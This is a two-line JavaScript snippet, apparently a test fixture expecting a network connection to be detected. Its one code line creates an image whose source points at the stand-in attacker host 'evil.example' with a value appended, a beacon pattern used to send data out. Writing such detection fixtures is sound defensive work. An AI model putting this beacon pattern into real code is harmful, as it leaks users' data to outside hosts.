// EXPECT: net.connect
new Image().src = "https://evil.example/?" + 1;
